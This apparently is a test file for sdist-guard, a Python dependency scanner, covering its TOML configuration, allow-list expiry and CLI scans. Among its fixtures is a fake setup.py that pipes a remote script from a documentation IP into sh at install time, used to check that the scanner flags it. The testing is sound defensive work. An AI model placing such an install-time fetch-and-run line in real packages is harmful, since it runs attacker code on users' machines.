// The configuration file (sdist-guard.toml, [tool.sdist-guard]) and the allow list: what they
// accept, what they reject with the file, line and key named, and how they reach a real scan.

import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { CONFIG_FILE, loadConfig, parseConfig } from '../src/config.js';
import { applyAllowList, isValidDate, parseAllowPackage, todayUtc, type AllowEntry } from '../src/allow.js';
import { ConfigError, resolveOptions } from '../src/options.js';
import type { Verdict } from '../src/types.js';
import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject, runCli } from './helpers/project.js';

const FULL = `# settings for every run
python-version = ["3.11", "3.12"]
platform = "linux, windows"
fail-on = ["suspicious", "unresolved", "sdist"]
index-url = "https://pypi.example.org/simple/"
extra-index-urls = ["https://extra.example.org/simple"]

[[allow]]
package = "Legacy_Pkg==1.0.0"
reason = "built from our own fork, reviewed in SEC-12"
until = 2031-06-30

[[allow]]
package = "internal-tool"
reason = "private package, not on PyPI"
until = "2030-01-01"
`;

function configError(fn: () => unknown): string {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ConfigError);
    return (err as Error).message;
  }
  throw new Error('expected a configuration error');
}

describe('parseConfig', () => {
  it('reads every key of sdist-guard.toml', () => {
    const config = parseConfig(FULL, CONFIG_FILE, 'top')!;
    expect(config).toEqual({
      path: 'sdist-guard.toml',
      label: 'sdist-guard.toml',
      pythonVersions: ['3.11', '3.12'],
      platforms: ['linux', 'windows'],
      failOn: ['malicious', 'suspicious', 'unresolved', 'sdist'],
      indexUrl: 'https://pypi.example.org/simple',
      extraIndexUrls: ['https://extra.example.org/simple'],
      allow: [
        { package: 'Legacy_Pkg==1.0.0', name: 'legacy-pkg', version: '1.0.0', reason: 'built from our own fork, reviewed in SEC-12', until: '2031-06-30', path: 'sdist-guard.toml', line: 8 },
        { package: 'internal-tool', name: 'internal-tool', reason: 'private package, not on PyPI', until: '2030-01-01', path: 'sdist-guard.toml', line: 13 },
      ],
    });
  });

  it('reads [tool.sdist-guard] from pyproject.toml, inline allow entries included', () => {
    const text = `[project]
name = "app"
dependencies = ["x"]

[tool.sdist-guard]
fail-on = "none"
allow = [
  { package = "x", reason = "accepted" },
]
`;
    const config = parseConfig(text, 'pyproject.toml', 'tool')!;
    expect(config.label).toBe('[tool.sdist-guard] in pyproject.toml');
    expect(config.failOn).toEqual([]);
    expect(config.allow).toEqual([{ package: 'x', name: 'x', reason: 'accepted', path: 'pyproject.toml', line: 8 }]);
    expect(parseConfig('[project]\nname = "app"\n', 'pyproject.toml', 'tool')).toBeUndefined();
  });

  it.each([
    ['an unknown key', 'fail_on = "sdist"\n', /^sdist-guard\.toml:1: unknown key "fail_on": expected one of python-version, platform, fail-on/],
    ['an unknown key in an allow entry', '[[allow]]\npackage = "x"\nreason = "r"\nexpires = "2030-01-01"\n', /^sdist-guard\.toml:4: unknown key "expires": expected one of package, reason, until/],
    ['a fail-on status that does not exist', 'fail-on = "suspicious,evil"\n', /^sdist-guard\.toml:1: fail-on: unknown status "evil"/],
    ['a Python version that is not 3.X', 'python-version = "three"\n', /^sdist-guard\.toml:1: python-version: /],
    ['a platform that does not exist', 'platform = ["linux", "amiga"]\n', /^sdist-guard\.toml:1: platform: /],
    ['an index URL that is not one', 'index-url = "not a url"\n', /^sdist-guard\.toml:1: index-url: "not a url" is not a URL/],
    ['a list of numbers', 'python-version = [3.12]\n', /python-version must be a string or an array of strings/],
    ['an allow entry without a reason', '[[allow]]\npackage = "x"\n', /^sdist-guard\.toml:1: allow entry for "x" needs a reason/],
    ['an allow entry with a blank reason', '[[allow]]\npackage = "x"\nreason = "  "\n', /needs a reason/],
    ['an allow entry without a package', '[[allow]]\nreason = "r"\n', /allow entry 1 needs package = "name" or "name==version"/],
    ['an allow entry with a specifier', '[[allow]]\npackage = "x>=1"\nreason = "r"\n', /^sdist-guard\.toml:2: "x>=1" is not a package: expected "name" or "name==version"/],
    ['an allow entry with a bad version', '[[allow]]\npackage = "x==1.0-banana"\nreason = "r"\n', /"1\.0-banana" is not a PEP 440 version/],
    ['an until that is not a date', '[[allow]]\npackage = "x"\nreason = "r"\nuntil = "2030-02-30"\n', /^sdist-guard\.toml:4: allow entry for "x": until must be a date written YYYY-MM-DD/],
    ['an until with a time', '[[allow]]\npackage = "x"\nreason = "r"\nuntil = 2030-01-01T10:00:00Z\n', /until must be a date/],
    ['allow as a table', '[allow]\npackage = "x"\n', /allow must be an array of tables/],
    ['invalid TOML', 'fail-on = [\n', /^sdist-guard\.toml:\d+: not valid TOML/],
  ])('rejects %s, naming the file, line and key', (_what, text, message) => {
    expect(configError(() => parseConfig(text, CONFIG_FILE, 'top'))).toMatch(message);
  });

  it("accepts the README's example", () => {
    const readme = readFileSync(join(import.meta.dirname, '..', 'README.md'), 'utf8');
    const example = /```toml\n([\s\S]*?)```/.exec(readme)![1];
    const config = parseConfig(example, CONFIG_FILE, 'top')!;
    expect(config.allow.map((a) => [a.name, a.version ?? null, a.until ?? null])).toEqual([
      ['legacy-thing', '1.4.2', '2030-06-30'],
      ['internal-tools', null, null],
    ]);
    expect(config.platforms).toEqual(['linux', 'macos']);
  });

  it('names [tool.sdist-guard] and the pyproject line for a mistake there', () => {
    const text = '[project]\nname = "a"\n\n[tool.sdist-guard]\nfail-on = "sdist"\nallow-list = []\n';
    expect(configError(() => parseConfig(text, 'pyproject.toml', 'tool'))).toBe(
      'pyproject.toml:6 ([tool.sdist-guard]): unknown key "allow-list": expected one of python-version, platform, fail-on, index-url, extra-index-urls, exclude, advisories, allow',
    );
  });
});

describe('loadConfig', () => {
  it('finds sdist-guard.toml or [tool.sdist-guard] at the root, and refuses both at once', () => {
    const project = makeProject({ 'sdist-guard.toml': 'fail-on = "sdist"\n', 'pyproject.toml': '[project]\nname = "a"\n' });
    try {
      expect(loadConfig(project.dir)?.failOn).toEqual(['sdist']);
      writeFileSync(join(project.dir, 'pyproject.toml'), '[tool.sdist-guard]\nfail-on = "unresolved"\n');
      expect(configError(() => loadConfig(project.dir))).toMatch(/configuration is in both sdist-guard\.toml and \[tool\.sdist-guard\] of pyproject\.toml/);
    } finally {
      project.cleanup();
    }
  });

  it('reads a named file and says so when it is missing or has no table', () => {
    const project = makeProject({ 'ci/guard.toml': 'fail-on = "none"\n', 'pyproject.toml': '[project]\nname = "a"\n' });
    try {
      expect(loadConfig(project.dir, join(project.dir, 'ci/guard.toml'))).toMatchObject({ path: 'ci/guard.toml', failOn: [] });
      expect(configError(() => loadConfig(project.dir, join(project.dir, 'nope.toml')))).toBe('config: cannot read nope.toml: no such file');
      expect(configError(() => loadConfig(project.dir, join(project.dir, 'pyproject.toml')))).toBe('config: pyproject.toml has no [tool.sdist-guard] table');
    } finally {
      project.cleanup();
    }
  });

  it('leaves a pyproject.toml that is not TOML to the manifest stage, and has no configuration without files', () => {
    const project = makeProject({ 'pyproject.toml': '[project\nname = "a"\n' });
    try {
      expect(loadConfig(project.dir)).toBeUndefined();
    } finally {
      project.cleanup();
    }
  });
});

describe('resolveOptions with a configuration', () => {
  const config = parseConfig(FULL, CONFIG_FILE, 'top')!;

  it('takes the file where the entry gives nothing, over the environment and the defaults', () => {
    const opts = resolveOptions({ root: '/r', paths: [], config, env: { PIP_INDEX_URL: 'https://env.example.org/simple' } });
    expect(opts).toMatchObject({
      indexUrl: 'https://pypi.example.org/simple',
      extraIndexUrls: ['https://extra.example.org/simple'],
      pythonVersions: ['3.11', '3.12'],
      platforms: ['linux', 'windows'],
      failOn: ['malicious', 'suspicious', 'unresolved', 'sdist'],
      configFile: 'sdist-guard.toml',
    });
    expect(opts.targets).toHaveLength(4);
    expect(opts.allow.map((a) => a.name)).toEqual(['legacy-pkg', 'internal-tool']);
  });

  it('lets inputs and flags override the file', () => {
    const opts = resolveOptions({ root: '/r', paths: [], config, env: {}, indexUrl: 'https://flag.example.org/simple', failOn: ['suspicious'], pythonVersions: ['3.13'] });
    expect(opts).toMatchObject({ indexUrl: 'https://flag.example.org/simple', failOn: ['suspicious'], pythonVersions: ['3.13'], platforms: ['linux', 'windows'] });
  });
});

describe('the allow list', () => {
  const entry = (pkg: string, over: Partial<AllowEntry> = {}): AllowEntry => ({ package: pkg, ...parseAllowPackage(pkg), reason: `reason for ${pkg}`, path: 'sdist-guard.toml', line: 3, ...over });
  const verdict = (name: string, version: string | undefined, status: Verdict['status'] = 'suspicious'): Verdict => ({
    name,
    version,
    status,
    reason: `${name} looks bad`,
    sources: [{ path: 'requirements.txt', line: 1, requirement: name }],
    targets: [],
    findings: [],
    limits: [],
  });

  it('parses packages and dates', () => {
    expect(parseAllowPackage('Foo.Bar == 1.0')).toEqual({ name: 'foo-bar', version: '1.0' });
    expect(parseAllowPackage('foo')).toEqual({ name: 'foo' });
    expect(() => parseAllowPackage('foo~=1.0')).toThrow(/not a package/);
    expect(() => parseAllowPackage('-foo')).toThrow(/not a package/);
    expect(isValidDate('2024-02-29')).toBe(true);
    expect(isValidDate('2023-02-29')).toBe(false);
    expect(isValidDate('2024-2-1')).toBe(false);
    expect(todayUtc(new Date(Date.UTC(2030, 0, 2, 23, 59)))).toBe('2030-01-02');
  });

  it('allows by name or exact version, with the reason, and leaves the rest alone', () => {
    const { verdicts, diagnostics } = applyAllowList(
      [verdict('Legacy_Pkg', '1.0'), verdict('legacy-pkg', '1.1'), verdict('internal-tool', undefined, 'unresolved'), verdict('other', '1.0'), verdict('fine', '1.0', 'wheel')],
      [entry('legacy-pkg==1.0.0'), entry('internal_tool', { until: '2030-01-01' }), entry('fine')],
      '2029-12-31',
    );
    expect(diagnostics).toEqual([]);
    expect(verdicts.map((v) => v.allowed ?? null)).toEqual([
      { reason: 'reason for legacy-pkg==1.0.0', source: 'sdist-guard.toml:3' },
      null,
      { reason: 'reason for internal_tool', until: '2030-01-01', source: 'sdist-guard.toml:3' },
      null,
      null,
    ]);
  });

  it('applies an entry through its until day, then stops and says so', () => {
    const e = entry('evil', { until: '2030-01-01', line: 7 });
    expect(applyAllowList([verdict('evil', '1.0')], [e], '2030-01-01').verdicts[0].allowed).toBeDefined();
    const after = applyAllowList([verdict('evil', '1.0')], [e], '2030-01-02');
    expect(after.verdicts[0].allowed).toBeUndefined();
    expect(after.verdicts[0].reason).toBe('evil looks bad (the allow entry at sdist-guard.toml:7 expired on 2030-01-01)');
    expect(after.diagnostics).toEqual([
      { severity: 'warning', path: 'sdist-guard.toml', line: 7, message: 'the allow entry for "evil" expired on 2030-01-01 and no longer applies (its reason was: reason for evil)' },
    ]);
  });
});

describe('configuration in a scan (CLI)', () => {
  let server: Awaited<ReturnType<typeof startIndexServer>>;
  const EVIL = 'import os\nos.system("curl -s http://203.0.113.7/a.sh | sh")\nfrom setuptools import setup\nsetup(name="evil", version="1.0")\n';
  beforeAll(async () => {
    server = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')], evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })] } });
  });
  afterAll(async () => {
    await server.close();
  });

  it('reports an allowed dependency as allowed with its reason, and passes', async () => {
    const project = makeProject({
      'requirements.txt': 'good==1.0\nevil==1.0\n',
      'sdist-guard.toml': `index-url = "${server.indexUrl}"\n\n[[allow]]\npackage = "evil==1.0"\nreason = "sandboxed build, SEC-7"\n`,
    });
    try {
      const text = await runCli(['scan', '.'], { cwd: project.dir });
      expect(text.code).toBe(0);
      expect(text.stdout).toMatch(/suspicious\s+evil\s+1\.0\s+requirements\.txt:2\s+\[allowed\]/);
      expect(text.stdout).toMatch(/allowed by sdist-guard\.toml:3: sandboxed build, SEC-7/);
      expect(text.stdout).toMatch(/PASS: sdist-guard passed: no dependency is malicious or suspicious or unresolved; not gating: 1 allowed/);
      const json = JSON.parse((await runCli(['scan', '.', '--format', 'json'], { cwd: project.dir })).stdout);
      expect(json.dependencies.find((d: { name: string }) => d.name === 'evil').allowed).toEqual({ reason: 'sandboxed build, SEC-7', source: 'sdist-guard.toml:3' });
      expect(json.summary.suspicious).toBe(1);
      expect(json.gate).toMatchObject({ failed: false, notGating: { preexisting: 0, allowed: 1 } });
    } finally {
      project.cleanup();
    }
  });

  it('gates again once the entry expired, with a warning on its line', async () => {
    const project = makeProject({
      'requirements.txt': 'evil==1.0\n',
      'sdist-guard.toml': '[[allow]]\npackage = "evil"\nreason = "temporary"\nuntil = 2001-01-01\n',
    });
    try {
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl], { cwd: project.dir });
      expect(run.code).toBe(1);
      expect(run.stdout).toMatch(/warning: sdist-guard\.toml:1: the allow entry for "evil" expired on 2001-01-01 and no longer applies/);
      const json = JSON.parse((await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json'], { cwd: project.dir })).stdout);
      expect(json.dependencies[0].reason).toMatch(/\(the allow entry at sdist-guard\.toml:1 expired on 2001-01-01\)$/);
      expect(json.dependencies[0].allowed).toBeUndefined();
    } finally {
      project.cleanup();
    }
  });

  it('lets flags override the file, reads --config, and stops on a mistake with exit 2', async () => {
    const project = makeProject({
      'requirements.txt': 'evil==1.0\n',
      'pyproject.toml': `[project]\nname = "app"\nversion = "0"\n\n[tool.sdist-guard]\nindex-url = "${server.indexUrl}"\nfail-on = "none"\n`,
      'strict.toml': `index-url = "${server.indexUrl}"\nfail-on = "suspicious"\n`,
      'broken.toml': 'fail-on = "none"\nallow_list = []\n',
    });
    try {
      expect((await runCli(['scan', '.'], { cwd: project.dir })).code).toBe(0);
      expect((await runCli(['scan', '.', '--fail-on', 'suspicious'], { cwd: project.dir })).code).toBe(1);
      expect((await runCli(['scan', '.', '--config', 'strict.toml'], { cwd: project.dir })).code).toBe(1);
      const broken = await runCli(['scan', '.', '--config', 'broken.toml'], { cwd: project.dir });
      expect(broken.code).toBe(2);
      expect(broken.stderr).toBe('sdist-guard: broken.toml:2: unknown key "allow_list": expected one of python-version, platform, fail-on, index-url, extra-index-urls, exclude, advisories, allow\n');
    } finally {
      project.cleanup();
    }
  });
});
